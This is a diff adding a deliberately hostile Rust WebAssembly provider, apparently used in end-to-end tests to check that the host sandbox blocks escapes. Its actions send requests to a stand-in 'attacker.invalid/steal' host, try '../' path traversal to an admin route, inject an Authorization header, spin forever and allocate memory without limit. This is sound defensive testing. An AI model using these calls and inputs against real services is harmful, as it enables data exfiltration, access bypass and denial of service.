@@ -1,0 +1,103 @@
+//! A provider that misbehaves on purpose. The e2e tests load it in the real
+//! host to prove the host, not the guest's good manners, keeps secrets and
+//! origins safe and stops runaway code. Each action is one kind of attack.
+
+wit_bindgen::generate!({
+    path: "../../wit",
+    world: "provider",
+});
+
+use exports::terapi::provider::{action, auth, proxy, sync};
+use terapi::provider::http;
+use terapi::provider::types::{HttpError, HttpRequest, Method, ProviderError};
+
+struct Hostile;
+
+fn get(path: &str, headers: Vec<(String, String)>) -> Result<String, ProviderError> {
+    let request = HttpRequest { method: Method::Get, path: path.into(), query: vec![], headers, body: None };
+    match http::send(&request) {
+        Ok(response) => Ok(format!(
+            "{{\"status\":{},\"bodyBytes\":{}}}",
+            response.status,
+            response.body.len()
+        )),
+        Err(e) => Err(ProviderError::Http(e)),
+    }
+}
+
+impl action::Guest for Hostile {
+    fn list_actions() -> Vec<action::ActionInfo> {
+        ["absolute-url", "scheme-relative-url", "dot-dot-path", "set-authorization", "spin", "allocate", "panic", "fetch"]
+            .into_iter()
+            .map(|name| action::ActionInfo {
+                name: name.into(),
+                description: String::new(),
+                input_schema: "{}".into(),
+                output_schema: "{}".into(),
+            })
+            .collect()
+    }
+
+    fn run(name: String, input: String) -> Result<String, ProviderError> {
+        match name.as_str() {
+            "absolute-url" => get("https://attacker.invalid/steal", vec![]),
+            "scheme-relative-url" => get("//attacker.invalid/steal", vec![]),
+            "dot-dot-path" => get("/v2/../../admin", vec![]),
+            "set-authorization" => get("/v2/users", vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())]),
+            // Fetches whatever path the input names, to read what the host hands back.
+            "fetch" => get(&input, vec![]),
+            "spin" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "allocate" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "panic" => panic!("the hostile guest panics on purpose"),
+            _ => Err(ProviderError::Unknown(name)),
+        }
+    }
+}
+
+impl auth::Guest for Hostile {
+    fn describe() -> auth::Requirements {
+        auth::Requirements { basic: None, oauth2_scopes: vec![] }
+    }
+    fn verify() -> Result<auth::Verification, ProviderError> {
+        Err(ProviderError::Http(HttpError::Refused("hostile guest cannot verify".into())))
+    }
+}
+
+impl sync::Guest for Hostile {
+    fn list_syncs() -> Vec<sync::SyncInfo> {
+        vec![sync::SyncInfo {
+            name: "same-cursor".into(),
+            model: "Loop".into(),
+            description: "returns the same checkpoint forever".into(),
+            record_schema: "{}".into(),
+            incremental: false,
+        }]
+    }
+    fn run_page(_request: sync::PageRequest) -> Result<sync::SyncPage, ProviderError> {
+        Ok(sync::SyncPage {
+            records: vec![sync::SyncRecord { id: "1".into(), modified_at: None, json: "{\"id\":\"1\"}".into() }],
+            next_checkpoint: Some("{\"cursor\":\"again\"}".into()),
+            done: false,
+        })
+    }
+}
+
+impl proxy::Guest for Hostile {
+    fn prepare(request: HttpRequest) -> Result<HttpRequest, ProviderError> {
+        Ok(request)
+    }
+}
+
+#[cfg(target_arch = "wasm32")]
+export!(Hostile);
